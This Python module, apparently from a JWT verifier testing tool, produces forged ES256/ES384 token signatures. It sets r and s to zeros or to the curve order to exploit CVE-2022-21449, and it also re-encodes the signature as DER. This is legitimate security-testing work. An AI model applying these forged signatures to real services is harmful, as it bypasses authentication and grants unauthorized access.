"""Signatures that no private key makes, under the header and claims of a good token (RFC 7518 §3.4).

A verification by ECDSA that does not demand that r and s are between 1 and the order of the curve takes the first two
for good ones of any message (CVE-2022-21449). The third is right but for its form, which fails the validation, too.
"""

from __future__ import annotations

import base64
from typing import NamedTuple

from golive.contract.outcomes import CouldNotTellError
from golive.exchanges.jwt import base64url, read

DEGENERATE = frozenset({"signature-of-zeros", "signature-of-orders", "signature-in-der"})
"""The changes that `degenerate` makes."""


class Curve(NamedTuple):
    """The order of a curve's base point, and the octets of r and of s (FIPS 186-5, RFC 7518 §3.4)."""

    order: int
    size: int


CURVES = {
    "ES256": Curve(0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551, 32),
    "ES384": Curve(
        0xFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFC7634D81F4372DDF581A0DB248B0A77AECEC196ACCC52973,
        48,
    ),
}
"""Algorithm of a signature -> its curve."""


def degenerate(which: str, token: str) -> str:
    """Return a signed token with another signature; CouldNotTellError for one that no elliptic curve signed."""
    curve = CURVES.get(str(read(token).header.get("alg")))
    if curve is None:
        raise CouldNotTellError("the token is not signed with ES256 or ES384", unsettled_shape=True)
    signed, _, signature = token.rpartition(".")
    match which:
        case "signature-of-zeros":
            octets = bytes(2 * curve.size)
        case "signature-of-orders":
            octets = curve.order.to_bytes(curve.size, "big") * 2
        case _:
            octets = _in_der(base64.urlsafe_b64decode(signature + "=" * (-len(signature) % 4)))
    return f"{signed}.{base64url(octets)}"


def _in_der(octets: bytes) -> bytes:
    """Return r and s as the sequence of ASN.1 that libraries make of them, and that no JWS has."""
    from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature

    half = len(octets) // 2
    return encode_dss_signature(int.from_bytes(octets[:half]), int.from_bytes(octets[half:]))
